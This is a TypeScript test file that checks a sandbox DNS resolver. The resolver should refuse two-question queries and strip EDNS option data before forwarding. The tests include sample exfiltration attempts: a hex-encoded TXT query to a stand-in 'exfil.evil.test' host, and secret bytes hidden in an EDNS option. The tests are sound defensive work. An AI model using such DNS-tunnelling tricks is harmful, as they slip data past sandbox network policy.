// Why: Corral's resolver judges a query by its question and forwards allowed ones to the policy's
// upstream. A query with a second question (a denied name behind an allowed first) had only its first
// judged, and the sandbox's own bytes went upstream — the second question and any EDNS option data
// with them, unseen (a review, session 31). These tests send real queries over UDP to the real resolver,
// with a real UDP "upstream" on loopback that records what reaches it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import dnsPacket from 'dns-packet';
import { DnsServer } from '../src/gateway/dns-server.js';
import { compilePolicy, parsePolicy } from '../src/policy/index.js';
import type { DnsReport, GatewayReport } from '../src/gateway/types.js';

/** A loopback upstream that answers every query with one A record and keeps what it received. */
async function upstream(): Promise<{ port: number; got: Buffer[]; close(): void }> {
  const sock = dgram.createSocket('udp4');
  const got: Buffer[] = [];
  sock.on('message', (m, r) => {
    got.push(m);
    const q = dnsPacket.decode(m);
    sock.send(dnsPacket.encode({ type: 'response', id: q.id, flags: 0x8180, questions: q.questions, answers: [{ type: 'A', name: q.questions![0]!.name, ttl: 60, data: '198.51.100.30' }] }), r.port, r.address);
  });
  await new Promise<void>((res) => sock.bind(0, '127.0.0.1', res));
  return { port: sock.address().port, got, close: () => sock.close() };
}

async function send(port: number, packet: Buffer): Promise<dnsPacket.DecodedPacket & { rcode?: string }> {
  const sock = dgram.createSocket('udp4');
  try {
    const answer = new Promise<Buffer>((resolve, reject) => { sock.once('message', resolve); setTimeout(() => reject(new Error('no answer')), 3000); });
    sock.send(packet, port, '127.0.0.1');
    return dnsPacket.decode(await answer);
  } finally { sock.close(); }
}

test('a query with two questions is refused (FORMERR) and recorded as malformed; nothing reaches the upstream', async () => {
  const up = await upstream();
  const policy = compilePolicy(parsePolicy(`name: t\nextends: default\nnetwork:\n  allow:\n    - domain: '*.cdn.test'\n  resolvers: ['127.0.0.1:${up.port}']\n`, 't.yaml'));
  const reports: GatewayReport[] = [];
  const dns = new DnsServer((ip) => (ip === '127.0.0.1' ? { id: 's', ip, policy, observe: false, names: new Map(), report: (r) => reports.push(r) } : undefined));
  const port = await dns.listen();
  try {
    const two = dnsPacket.encode({ type: 'query', id: 7, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name: 'www.cdn.test' }, { type: 'TXT', name: '6578666973.exfil.evil.test' }] });
    const r = await send(port, two);
    assert.equal(r.rcode, 'FORMERR');
    // (the one-question query still works: the upstream is there)
    const one = await send(port, dnsPacket.encode({ type: 'query', id: 8, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name: 'www.cdn.test' }] }));
    assert.equal(one.rcode, 'NOERROR');
    assert.equal(up.got.length, 1, 'only the one-question query went upstream');
    const rep = reports as DnsReport[];
    assert.deepEqual(rep.map((x) => [x.qtype, x.verdict, x.rcode]), [['malformed', 'deny', 'FORMERR'], ['A', 'allow', 'NOERROR']]);
    assert.match(rep[0]!.name, /exfil\.evil\.test/, 'the refused query names what it asked');
  } finally { dns.close(); up.close(); }
});

test('an allowed query goes upstream rebuilt from what was judged: its one question and recursion flag, not the sandbox\'s EDNS option data', async () => {
  const up = await upstream();
  const policy = compilePolicy(parsePolicy(`name: t\nextends: default\nnetwork:\n  allow:\n    - domain: '*.cdn.test'\n  resolvers: ['127.0.0.1:${up.port}']\n`, 't.yaml'));
  const dns = new DnsServer((ip) => (ip === '127.0.0.1' ? { id: 's', ip, policy, observe: false, names: new Map(), report: () => undefined } : undefined));
  const port = await dns.listen();
  try {
    const secret = Buffer.from('7365637265742d6b65792d6d6174657269616c', 'latin1');
    const q = dnsPacket.encode({ type: 'query', id: 9, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name: 'www.cdn.test' }],
      additionals: [{ type: 'OPT', name: '.', udpPayloadSize: 1232, flags: 0, options: [{ code: 65001, data: secret }] } as unknown as dnsPacket.Answer] });
    const r = await send(port, q);
    assert.equal(r.rcode, 'NOERROR');
    assert.deepEqual(r.answers?.map((a) => (a as { data?: unknown }).data), ['198.51.100.30']);
    assert.equal(up.got.length, 1);
    assert.equal(up.got[0]!.indexOf(secret), -1, 'the option data did not reach the upstream');
    const sent = dnsPacket.decode(up.got[0]!);
    assert.deepEqual(sent.questions, [{ type: 'A', name: 'www.cdn.test', class: 'IN' }]);
    assert.equal(sent.additionals?.length ?? 0, 0);
    assert.ok(((sent.flags ?? 0) & dnsPacket.RECURSION_DESIRED) !== 0);
  } finally { dns.close(); up.close(); }
});
